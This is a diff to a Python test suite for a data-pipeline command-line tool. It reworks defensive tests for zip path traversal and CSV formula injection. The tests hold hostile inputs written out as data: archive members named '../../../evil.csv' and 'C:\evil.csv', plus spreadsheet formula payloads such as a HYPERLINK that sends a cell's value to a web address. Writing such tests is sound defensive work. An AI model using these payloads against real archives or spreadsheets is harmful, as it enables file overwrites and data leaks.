@@ -14,13 +14,15 @@ from pathlib import Path
 import duckdb
 import pytest
 from click.testing import CliRunner, Result
+from demo_homes import DemoHome
+from empty_warehouses import new_warehouse
 
 from data_contracts.loader import packaged_templates
 from pipelines.cli.main import kpi
 from pipelines.home import Home
 from pipelines.readers import Limits, RefusedFile, inspect_file
 from pipelines.scaffold import HomeFacts, write_home
-from pipelines.warehouse import Warehouse, open_warehouse
+from pipelines.warehouse import Warehouse
 
 HEADER = "Delivery ID,Order Date,Vendor,Promised Date"
 #: What a bomb of this test becomes when it is unpacked, and the most that looking at it may take.
@@ -49,7 +51,7 @@ def files_of(folder: Path) -> set[str]:
 
 @pytest.fixture
 def warehouse(tmp_path: Path) -> Iterator[Warehouse]:
-    with open_warehouse(tmp_path / "warehouse.duckdb") as opened:
+    with new_warehouse(tmp_path / "warehouse.duckdb") as opened:
         yield opened
 
 
@@ -153,16 +155,17 @@ def test_a_contract_cannot_name_places_outside(old: str, new: str, said: str, ho
     assert not [name for name in created if "evil" in name]
 
 
-@pytest.mark.parametrize(
-    "member", ["../../../evil.csv", "/evil.csv", "..\\..\\evil.csv", "a/../../evil.csv", "C:\\evil.csv"]
-)
-def test_a_member_that_leads_out_of_its_archive_is_never_unpacked(member: str, home: Home) -> None:
+def test_a_member_that_leads_out_of_its_archive_is_never_unpacked(home: Home) -> None:
     folder = home.landing / "deliveries"
     folder.mkdir(parents=True, exist_ok=True)
-    with zipfile.ZipFile(folder / "export.csv.zip", "w") as archive:
-        archive.writestr(member, f"{HEADER}\nD-1,2-Jun-26,Acme,9-Jun-26\n")
+    members = ("../../../evil.csv", "/evil.csv", "..\\..\\evil.csv", "a/../../evil.csv", "C:\\evil.csv")
+    for number, member in enumerate(members):
+        with zipfile.ZipFile(folder / f"export {number}.csv.zip", "w") as archive:
+            archive.writestr(member, f"{HEADER}\nD-{number},2-Jun-26,Acme,9-Jun-26\n")
     ended = run(home, "run")
-    assert ended.exit_code in (0, 3, 5), ended.output
+    assert ended.exit_code == 5, ended.output
+    # Each was looked at, and none has the columns of its contract.
+    assert len(DemoHome(home.folder).refusals()) == len(members)
     assert not [name for name in files_of(home.folder.parent) if name.endswith("evil.csv")]
     assert not Path("/evil.csv").exists()
 
@@ -208,7 +211,7 @@ def test_a_bomb_of_300_megabytes_is_refused_without_being_unpacked(name: str, ki
 
 def test_a_key_that_is_a_formula_is_harmless_in_the_export_of_what_is_set_aside(home: Home, tmp_path: Path) -> None:
     key = '=HYPERLINK("http://example.org/?"&A1)'
-    with open_warehouse(home.warehouse) as opened:
+    with new_warehouse(home.warehouse) as opened:
         opened.execute(
             "INSERT INTO ops.ops_quarantined_records VALUES"
             " ('tickets', 'stg_tickets', ?, 'tickets.a.b', '@SUM(1)', 'batch', now(), 'desk', '+1+1.csv', 2)",
